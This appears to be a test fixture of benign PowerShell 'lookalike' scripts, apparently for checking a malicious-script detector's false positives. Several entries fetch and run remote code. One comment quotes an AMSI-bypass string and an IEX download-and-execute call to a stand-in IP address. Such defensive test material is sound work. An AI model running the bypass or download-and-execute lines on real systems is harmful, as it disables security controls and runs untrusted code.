// Honest PowerShell: administration, builds, setups.
import { file, type Lookalike } from './lookalike.ts'

export const powershell: readonly Lookalike[] = [
  file(
    'choco.ps1',
    "Set-ExecutionPolicy Bypass -Scope Process -Force; [Net.ServicePointManager]::SecurityProtocol = 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install git -y\n",
  ),
  file(
    'scoop.ps1',
    'Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\n',
  ),
  file(
    'agent.ps1',
    '$url = "https://aka.ms/vs/17/release/vs_buildtools.exe"\n$out = Join-Path $env:TEMP "vs_buildtools.exe"\nInvoke-WebRequest -Uri $url -OutFile $out\nStart-Process -FilePath $out -ArgumentList "--quiet","--wait" -Wait\nRemove-Item $out\n',
  ),
  file(
    'vendor-setup.ps1',
    '$url = "https://files.example/setup.exe"\n$out = Join-Path $env:TEMP "setup.exe"\nInvoke-WebRequest -Uri $url -OutFile $out\nStart-Process -FilePath $out -ArgumentList "/S" -Wait\n',
  ),
  file(
    'graph-report.ps1',
    '$a = Invoke-RestMethod -Uri "https://service.example/v1/devices" -Headers @{ Authorization = "Bearer $token" }\n$name = "report " + (Get-Date -Format yyyy) + ".csv"\n$a.value | Export-Csv $name\n' +
      Array.from({ length: 14 }, (_, at) => `$line${at} = "part" + "${at}: " + "of the report"\n`).join('') +
      'Start-Process excel.exe $name\n',
  ),
  file(
    'shouting.ps1',
    'FUNCTION GET-STATE { PARAM([STRING]$NAME) RETURN GET-SERVICE $NAME }\n$webclient = new-object system.net.webclient\n$Path = Get-State "spooler"\nwrite-host $Path\nIF ($Path) { WRITE-OUTPUT "ok" }\n',
  ),
  file(
    'inventory.ps1',
    'Get-WmiObject Win32_ComputerSystem | Select Manufacturer, Model\nGet-WmiObject Win32_Process | Sort WS | Select -First 10\nGet-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Export-Csv apps.csv\n',
  ),
  file(
    'users.ps1',
    'Import-Module ActiveDirectory\nImport-Csv users.csv | ForEach-Object { New-ADUser -Name $_.Name -SamAccountName $_.Sam -Enabled $true }\n',
  ),
  file(
    'module.psm1',
    'function Get-Thing {\n  [CmdletBinding()]\n  param([Parameter(Mandatory)][string]$Name)\n  $bytes = [System.Text.Encoding]::UTF8.GetBytes($Name)\n  [Convert]::ToBase64String($bytes)\n}\nExport-ModuleMember -Function Get-Thing\n',
  ),
  file(
    'decode.ps1',
    '$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("SGVsbG8sIHdvcmxkISBUaGlzIGlzIGEgbm90ZS4="))\nWrite-Host $text\n',
  ),
  file(
    'task.ps1',
    '$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-NoProfile -File C:\\Tools\\backup.ps1"\n$t = New-ScheduledTaskTrigger -Daily -At 3am\nRegister-ScheduledTask -TaskName Backup -Action $a -Trigger $t\n',
  ),
  file(
    'join.ps1',
    '$names = "a","b","c"\n$line = $names -join ", "\n$path = "{0}\\{1}" -f $env:USERPROFILE, "notes.txt"\nSet-Content -Path $path -Value ($line -replace "a","A")\n',
  ),
  file(
    'about.ps1',
    '<#\n Detects scripts that call [Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed")\n or IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.7/x").\n#>\nWrite-Host "documentation only"\n',
  ),
  file(
    'update-defender.ps1',
    'Update-MpSignature\nStart-MpScan -ScanType QuickScan\nGet-MpComputerStatus | Select AntivirusEnabled\n',
  ),
  file(
    'net.ps1',
    '$c = Test-NetConnection example.org -Port 443\nif (-not $c.TcpTestSucceeded) { Write-Warning "down" }\n',
  ),
]
